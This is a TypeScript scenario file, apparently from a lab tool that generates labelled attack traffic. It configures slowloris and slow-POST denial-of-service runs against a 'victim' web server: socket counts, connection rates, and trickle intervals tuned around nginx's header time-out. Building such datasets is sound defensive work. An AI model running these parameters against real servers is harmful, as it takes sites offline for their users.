// Slow HTTP DoS with a scripted client (slowloris-client.ts), a second tool beside slowhttptest
// with its own parameters: slow headers or a slow POST body, how many connections, how fast they
// are opened, the interval between trickles (below or above nginx's 10 s header time-out, so the
// server either waits or cuts and the client reopens), chunk sizes and announced body length.
import { join } from "node:path";
import type { Scenario, ScenarioContext, ScenarioResult } from "../scenario.ts";
import { Budget, firstErrorLine, runTool } from "./bounded.ts";
import { randomBrowser } from "./curl-session.ts";
import type { SlowClientConfig, SlowClientStats } from "./slowloris-client.ts";
import { intBetween, pick, type Rng } from "./random.ts";

const MAX_ROUNDS = 3;
const CLIENT = join(import.meta.dir, "slowloris-client.ts");

interface SlowMode {
  id: string;
  description: string;
  config: (rng: Rng, ctx: ScenarioContext) => Pick<SlowClientConfig, "mode" | "path" | "intervalMs" | "chunkBytes" | "contentLength">;
}

const MODES: SlowMode[] = [
  {
    id: "slowloris-script",
    description: "scripted slowloris: partial request headers, one more line per interval",
    config: (rng, ctx) => ({
      mode: "headers",
      path: pick(rng, ["/", ...ctx.services.web.pages.filter((p) => p.endsWith(".html"))]),
      intervalMs: intBetween(rng, 1_500, 14_000),
      chunkBytes: [1, 1],
      contentLength: 0,
    }),
  },
  {
    id: "slow-post-script",
    description: "scripted R-U-Dead-Yet: a POST with a large Content-Length, the body a few bytes per interval",
    config: (rng, ctx) => ({
      mode: "body",
      path: ctx.services.web.loginPath,
      intervalMs: intBetween(rng, 1_000, 10_000),
      chunkBytes: [intBetween(rng, 1, 4), intBetween(rng, 5, 32)],
      contentLength: intBetween(rng, 4_096, 1_000_000),
    }),
  },
];

function lastStats(stdout: string): SlowClientStats | null {
  const lines = stdout.trim().split("\n").filter((l) => l.startsWith("{"));
  try {
    return lines.length ? (JSON.parse(lines.at(-1)!) as SlowClientStats) : null;
  } catch {
    return null;
  }
}

async function runSlowScript(mode: SlowMode, ctx: ScenarioContext): Promise<ScenarioResult> {
  const { rng } = ctx;
  const budget = new Budget(ctx.durationMs);
  const rounds = intBetween(rng, 1, MAX_ROUNDS);
  let opened = 0;
  let trickles = 0;
  let ran = 0;
  const described: string[] = [];
  const problems: string[] = [];
  for (; ran < rounds && budget.allows(3_000); ran++) {
    const seconds = Math.max(2, Math.min(Math.floor(budget.remainingMs() / 1_000), intBetween(rng, 8, 40)));
    const config: SlowClientConfig = {
      host: ctx.victimIp,
      port: ctx.services.web.port,
      ...mode.config(rng, ctx),
      sockets: intBetween(rng, 50, 350),
      connectPerSecond: intBetween(rng, 10, 150),
      userAgents: Array.from({ length: 3 }, () => randomBrowser(rng).userAgent),
      durationMs: seconds * 1_000,
      seed: intBetween(rng, 1, 2 ** 31 - 1),
    };
    ctx.log(`slowloris-client ${config.mode} ${config.path}: ${config.sockets} sockets @${config.connectPerSecond}/s, every ${config.intervalMs} ms, ${seconds} s`);
    const run = await runTool(ctx, budget, [process.execPath, CLIENT, JSON.stringify(config)], { maxMs: seconds * 1_000 + 4_000 });
    const stats = lastStats(run.stdout);
    opened += stats?.opened ?? 0;
    trickles += stats?.trickles ?? 0;
    described.push(`${config.sockets} sockets every ${config.intervalMs} ms: ${stats?.opened ?? 0} opened, ${stats?.closed ?? 0} closed by the server`);
    if (!run.killed && run.code !== 0) problems.push(firstErrorLine(run));
    await budget.pause(intBetween(rng, 300, 2_000));
  }
  const notes = [`${ran} rounds (${described.join("; ")}), ${trickles} trickles`];
  if (problems.length > 0) notes.push(`errors: ${[...new Set(problems)].join(" | ")}`);
  return { actions: opened, note: notes.join(", ") };
}

export const SLOWLORIS_SCENARIOS: Scenario[] = MODES.map((mode) => ({
  id: mode.id,
  label: "DoS-SlowHTTP",
  tool: "scripted-slow-client",
  ipv6: true,
  description: mode.description,
  run: (ctx) => runSlowScript(mode, ctx),
}));
